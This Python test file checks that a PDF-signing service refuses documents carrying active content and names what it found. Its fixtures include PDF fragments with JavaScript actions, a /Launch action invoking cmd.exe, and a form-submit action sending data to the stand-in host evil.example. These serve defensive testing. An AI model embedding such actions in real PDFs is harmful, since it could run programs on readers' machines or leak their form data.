"""Issue 9, active content: what the signer sees must be what is signed.

A PDF that can run JavaScript, act on opening or on page/field events, carry an XFA form, launch a
program, submit or import form data, or embed a media player is refused at every entry point (draft
upload and direct session creation both go through ``pdfsign.inspect``) with a clear 4xx that says what
was found. Plain links stay allowed.
"""

from __future__ import annotations

import re
from io import BytesIO
from pathlib import Path

import pytest

from pdfsign.errors import PdfRejected
from pdfsign.inspect import inspect_pdf
from pdfsign.verify import verify_pdf
from tests.lifecycle_helpers import ApiUser, lifecycle_app
from tests.pdf_helpers import one_page

JS = b"<< /S /JavaScript /JS (app.alert('x')) >>"
LINK = b"<< /Type /Annot /Subtype /Link /Rect [72 500 200 520] /P 3 0 R %s>>"
WIDGET = b"<< /Type /Annot /Subtype /Widget /FT /%s /T (f) /Rect [72 500 200 520] /P 3 0 R %s>>"


def with_annotation(annotation: bytes, in_form: bool = False) -> bytes:
    form = b"/AcroForm << /Fields [7 0 R] >> " if in_form else b""
    return one_page(catalog_extra=form, page_extra=b"/Annots [7 0 R] ", extra_objects=(annotation,))


KINDS = {
    "open_action_javascript": (one_page(catalog_extra=b"/OpenAction " + JS + b" "), "/OpenAction"),
    "catalog_additional_actions": (one_page(catalog_extra=b"/AA << /WC " + JS + b" >> "), "/AA"),
    "page_additional_actions": (one_page(page_extra=b"/AA << /O " + JS + b" >> "), "/AA"),
    "annotation_additional_actions": (with_annotation(LINK % (b"/AA << /E " + JS + b" >> ")), "/AA"),
    "field_additional_actions": (with_annotation(WIDGET % (b"Tx", b"/AA << /K " + JS + b" >> "), True), "/AA"),
    "names_javascript_tree": (one_page(catalog_extra=b"/Names << /JavaScript << /Names [(a) 7 0 R] >> >> ",
                                       extra_objects=(JS,)), "/Names /JavaScript"),
    "xfa_form": (one_page(catalog_extra=b"/AcroForm << /Fields [] /XFA 7 0 R >> ",
                          extra_objects=(b"<< /Length 0 >>\nstream\n\nendstream",)), "XFA"),
    "launch_action": (with_annotation(LINK % b"/A << /S /Launch /F (cmd.exe) >> "), "/Launch"),
    "submit_form_action": (with_annotation(WIDGET % (b"Btn", b"/Ff 65536 /A << /S /SubmitForm "
                                                            b"/F << /FS /URL /F (https://evil.example) >> >> "),
                                           True), "/SubmitForm"),
    "import_data_action": (with_annotation(LINK % b"/A << /S /ImportData /F (data.fdf) >> "), "/ImportData"),
    "javascript_link": (with_annotation(LINK % (b"/A " + JS + b" ")), "JavaScript"),
    "javascript_in_next_chain": (with_annotation(LINK % (b"/A << /S /URI /URI (https://a.example) /Next " + JS
                                                         + b" >> ")), "JavaScript"),
    "javascript_in_outline": (one_page(catalog_extra=b"/Outlines << /First 7 0 R /Last 7 0 R /Count 1 >> ",
                                       extra_objects=(b"<< /Title (x) /A " + JS + b" >>",)), "JavaScript"),
    "set_ocg_state_action": (with_annotation(LINK % b"/A << /S /SetOCGState /State [/OFF] >> "), "/SetOCGState"),
    "rich_media": (with_annotation(b"<< /Type /Annot /Subtype /RichMedia /Rect [72 500 200 520] /P 3 0 R >>"),
                   "/RichMedia"),
    "movie": (with_annotation(b"<< /Type /Annot /Subtype /Movie /Rect [72 500 200 520] /P 3 0 R "
                              b"/Movie << /F (m.mov) >> >>"), "/Movie"),
    "screen_rendition": (with_annotation(b"<< /Type /Annot /Subtype /Screen /Rect [72 500 200 520] /P 3 0 R "
                                         b"/A << /S /Rendition /OP 0 >> >>"), "/Rendition"),
}


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_active_content_is_refused_and_named(kind: str):
    pdf, named = KINDS[kind]
    with pytest.raises(PdfRejected) as refused:
        inspect_pdf(pdf)
    assert refused.value.code == "active_content"
    assert named in refused.value.message and "活动内容" in refused.value.message


def test_plain_links_and_forms_are_allowed():
    uri = with_annotation(LINK % b"/A << /S /URI /URI (https://example.com) >> ")
    goto = with_annotation(LINK % b"/Dest [3 0 R /Fit] ")
    field = with_annotation(WIDGET % (b"Tx", b"/V (1000) "), True)
    for pdf in (uri, goto, field):
        assert inspect_pdf(pdf).page_count == 1


@pytest.fixture
def api(tmp_path: Path):
    app, services = lifecycle_app(tmp_path, f"sqlite:///{tmp_path / 'signer.db'}")
    yield app, services
    services.db.dispose()


def test_active_content_is_refused_at_draft_upload_and_at_session_creation(api):
    app, _services = api
    admin = ApiUser(app, "admin")
    pdf, _ = KINDS["open_action_javascript"]
    draft = admin.post("/api/v1/drafts", data={"file": (BytesIO(pdf), "contract.pdf")},
                       content_type="multipart/form-data")
    assert draft.status_code == 422, draft.get_json()
    error = draft.get_json()["error"]
    assert error["code"] == "pdf_active_content" and "JavaScript" in error["message"]
    assert re.search(r"[\u4e00-\u9fff]", error["message"])

    pdf, _ = KINDS["launch_action"]
    session = admin.post("/api/v1/signing-sessions", data={"file": (BytesIO(pdf), "contract.pdf"), "title": "合同"},
                         content_type="multipart/form-data")
    assert session.status_code == 422, session.get_json()
    assert session.get_json()["error"]["code"] == "pdf_active_content"
    assert "/Launch" in session.get_json()["error"]["message"]


def test_verification_also_refuses_active_content():
    pdf, _ = KINDS["xfa_form"]
    with pytest.raises(PdfRejected) as refused:
        verify_pdf(pdf, [])
    assert refused.value.code == "active_content"
